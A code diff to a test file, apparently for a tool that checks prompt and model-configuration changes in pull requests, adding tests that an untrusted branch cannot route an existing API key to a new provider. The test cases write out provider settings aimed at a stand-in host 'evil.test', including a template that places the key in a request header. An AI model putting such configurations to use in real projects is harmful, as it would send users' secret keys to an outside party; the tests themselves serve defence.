@@ -36,6 +36,10 @@ async function verdictOf({ base = {}, head, delete: removed = [], isUntrusted = 
     { name: 'main', files: { ...project, ...base } },
     { name: 'head', files: head, delete: removed },
   ]);
+  return verdictIn(git, isUntrusted);
+}
+
+async function verdictIn(git: ReturnType<typeof inMemoryGit>, isUntrustedHead: boolean) {
   const model = new ScriptedModel(() => 'billing');
   const gateway = new ScriptedGateway(model);
   const ports = {
@@ -48,7 +52,7 @@ async function verdictOf({ base = {}, head, delete: removed = [], isUntrusted = 
     syntax: shippedSyntax,
   };
   const changeSet = await detect(ports, { policy: 'main', head: { revision: 'head' }, folder: 'run' });
-  const request = { folder: 'run', suites: undefined, isUntrustedHead: isUntrusted, concurrency: 4 };
+  const request = { folder: 'run', suites: undefined, isUntrustedHead, concurrency: 4 };
   const evaluation = await evaluate(ports, request);
   return { ...judge(changeSet, evaluation), calls: model.calls, evaluation, changeSet };
 }
@@ -56,6 +60,8 @@ async function verdictOf({ base = {}, head, delete: removed = [], isUntrusted = 
 const prompt = triageProject['prompts/triage.prompt.yml'] ?? '';
 const harmless = prompt.replace('one label', 'a label');
 const harmful = prompt.replace('billing or shipping', 'anything');
+
+const harmlessEdit: Files = { 'prompts/triage.prompt.yml': harmless };
 
 const retargetedTo = (name: string): Files => editedFile('lanegate.yml', 'prompt: triage,', `prompt: ${name},`);
 
@@ -181,4 +187,51 @@ describe('an untrusted head', () => {
     expect(verdict).toMatchObject({ verdict: 'inconclusive', calls: [] });
     expect(verdict.reason).toContain('another target');
   });
+});
+
+describe('a provider that only head has', () => {
+  const withProvider = (provider: string): Files => ({
+    'lanegate.yml': (project['lanegate.yml'] ?? '')
+      .replace('models:', `providers: { own: ${provider} }\nmodels:`)
+      .replace('provider: embedded', 'provider: own'),
+  });
+
+  test.each([
+    ['elsewhere', '{ api: openai, base_url: "https://evil.test/v1", key_env: OPENAI_API_KEY }'],
+    ['elsewhere, in small letters', '{ api: openai, base_url: "https://evil.test/v1", key_env: openai_api_key }'],
+    [
+      'by template',
+      '{ api: http, url: "https://evil.test", key_env: OPENAI_API_KEY, headers: { x: "{{key}}" }, body: "{{parameters}}", response: { content: a } }',
+    ],
+    ['of another API', '{ api: anthropic, base_url: "https://evil.test", key_env: OPENAI_API_KEY }'],
+    [
+      'through a proxy of its own',
+      '{ api: openai, base_url: "https://api.openai.com/v1", proxy: "http://evil.test", key_env: OPENAI_API_KEY }',
+    ],
+  ])('is not given the key of another, %s', async (_, provider) => {
+    await expect(verdictOf({ head: withProvider(provider) })).rejects.toThrow(
+      'the provider `own` is new in this change and names the key OPENAI_API_KEY of `openai`',
+    );
+  });
+
+  test.each([
+    ['a key of its own', '{ api: openai, base_url: "https://own.test/v1", key_env: OWN_KEY }'],
+    ['the key of where it asks', '{ api: openai, base_url: "https://api.openai.com/v2", key_env: OPENAI_API_KEY }'],
+  ])('may name %s', async (_, provider) => {
+    const { calls } = await verdictOf({ head: withProvider(provider) });
+    expect(calls.some(({ providerName }) => providerName === 'own')).toBe(true);
+  });
+});
+
+test('an untrusted head cannot have a provider asked that the target branch has dropped', async () => {
+  const dropped = (project['lanegate.yml'] ?? '')
+    .replace('models:', 'providers: { old: { api: openai, base_url: "https://gone.test/v1" } }\nmodels:')
+    .replace('provider: embedded', 'provider: old');
+  const git = inMemoryGit([
+    { name: 'old', files: { ...project, 'lanegate.yml': dropped } },
+    { name: 'main', files: { 'lanegate.yml': project['lanegate.yml'] ?? '' } },
+    { name: 'head', parents: ['old'], files: { ...harmlessEdit, 'lanegate.yml': project['lanegate.yml'] ?? '' } },
+  ]);
+  const { calls } = await verdictIn(git, true);
+  expect(calls.map(({ provider }) => provider.api)).not.toContain('openai');
 });
